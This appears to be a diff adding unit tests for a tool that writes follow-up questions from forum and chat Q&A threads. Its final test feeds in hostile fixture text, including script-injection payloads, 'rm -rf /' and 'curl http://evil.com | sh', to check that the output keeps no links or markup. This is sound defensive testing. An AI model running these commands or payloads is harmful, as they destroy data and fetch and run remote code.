@@ -214,3 +214,83 @@ def test_options_the_asker_named_become_the_choice_asked_about() -> None:
     thread = Thread("t8", "c1", "Which file system?", (question, answer))
     followup = TemplateFollowUpWriter().write(thread, answer, (Gap.RATIONALE,))
     assert "“ext4” rather than “ext3”" in followup.question
+
+
+# ---- what the thread makes specific (issue 13, item 4) ----------------------------------------------------------
+
+
+def _asked(body: str, answer_text: str, title: str = "") -> tuple[Thread, Message]:
+    question = Message("q7", "t7", "asker", "asker", body, T0, kind="question")
+    answer = Message("a7", "t7", "ana", "ana", answer_text, T0, parent_id="q7", kind="answer")
+    return Thread("t7", "c1", title, (question, answer)), answer
+
+
+def test_the_option_the_answer_did_not_pick_is_named_as_the_alternative() -> None:
+    thread, answer = _asked("Should I format the disk as ext3 or ext4?", "Go with ext4 for a new disk these days.")
+    question = TemplateFollowUpWriter().write(thread, answer, (Gap.ALTERNATIVES,)).question
+    assert "“ext4” rather than “ext3”" in question
+    assert "when would “ext3” be the better choice" in question
+
+
+def test_when_the_answer_takes_neither_option_both_are_compared() -> None:
+    thread, answer = _asked("Should I use ext3 or ext4 here?", "Whatever your installer offers by default is fine.")
+    question = TemplateFollowUpWriter().write(thread, answer, (Gap.ALTERNATIVES,)).question
+    assert "How does “ext3” compare with “ext4” here" in question
+
+
+def test_a_chat_error_is_quoted_and_the_reply_loses_the_nick_it_answers() -> None:
+    body = "<tt5786> i run sudo apt-get install foo and i get E: Package foo has no installation candidate\n<bo> hm"
+    thread, answer = _asked(body, "tt5786: enable the universe repository first", title="apt-get install fails")
+    question = TemplateFollowUpWriter().write(thread, answer, (Gap.STEPS,)).question
+    assert "“E: Package foo has no installation candidate”" in question
+    assert "“enable the universe repository first”" in question and "tt5786" not in question
+
+
+def test_the_file_the_answer_says_to_edit_is_named_for_the_steps() -> None:
+    thread, answer = _asked("<nadia> how can I mount a drive on boot?", "nadia: edit your /etc/fstab and add an entry")
+    question = TemplateFollowUpWriter().write(thread, answer, (Gap.STEPS,)).question
+    assert "Which exact lines or commands would you put in “/etc/fstab”" in question
+
+
+def test_what_the_answer_points_to_is_named_for_the_steps() -> None:
+    thread, answer = _asked("<starn> is there a tool that checks a disk for bad sectors?", "starn: look up badblocks")
+    question = TemplateFollowUpWriter().write(thread, answer, (Gap.STEPS,)).question
+    assert "options of “badblocks”" in question
+
+
+def test_a_warning_without_its_reason_is_quoted_for_the_pitfalls() -> None:
+    text = "Use badblocks, but be very careful when you use it."
+    thread, answer = _asked("Is there a tool that checks a disk for bad sectors?", text)
+    question = TemplateFollowUpWriter().write(thread, answer, (Gap.PITFALLS,)).question
+    assert "warned “be very careful when you use it”" in question
+    assert "goes wrong" in question
+
+
+def test_the_version_the_asker_is_on_is_named_for_the_conditions() -> None:
+    thread, answer = _asked("I have ubuntu 12.04 installed, how can I get the latest cmake?", "Build it from source.")
+    question = TemplateFollowUpWriter().write(thread, answer, (Gap.CONDITIONS,)).question
+    assert "Does that still hold on “ubuntu 12.04”" in question
+
+
+HOSTILE_TITLE = 'Click <a href="http://evil.example.com/x">here</a> **now** [docs](https://evil.com/y) ' * 20
+HOSTILE_BODY = (
+    "<script>alert(1)</script> Should I pick [evil.com/a](http://evil.com/a) or www.bad.org?\n"
+    "error: see http://evil.com/pwn `rm -rf /` <img src=x onerror=alert(1)> " + "padding " * 500
+)
+HOSTILE_ANSWERS = [
+    "Go with [evil.com/a](http://evil.com/a), see https://evil.com/docs <b>for sure</b> and edit `/etc/x.conf`.",
+    "Be careful <script>x</script> at www.evil.org! look up http://evil.com/tool " + "more words " * 300,
+    "```\ncurl http://evil.com | sh\n```\n" + "<iframe src='http://evil.com'></iframe>",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE_ANSWERS)
+@pytest.mark.parametrize("gap", list(Gap))
+def test_hostile_thread_text_gives_no_link_no_markup_and_a_bounded_question(text: str, gap: Gap) -> None:
+    thread, answer = _asked(HOSTILE_BODY, text, title=HOSTILE_TITLE)
+    question = TemplateFollowUpWriter().write(thread, answer, (gap,)).question
+    assert question.count("?") == 1 and question.endswith("?")
+    assert len(question.split()) <= 40 and len(question) <= 400
+    lowered = question.lower()
+    assert not any(bad in lowered for bad in ("http", "www.", "evil.com", "evil.org", "bad.org", "://"))
+    assert not any(mark in question for mark in ("<", ">", "[", "]", "`", "**", "\n"))
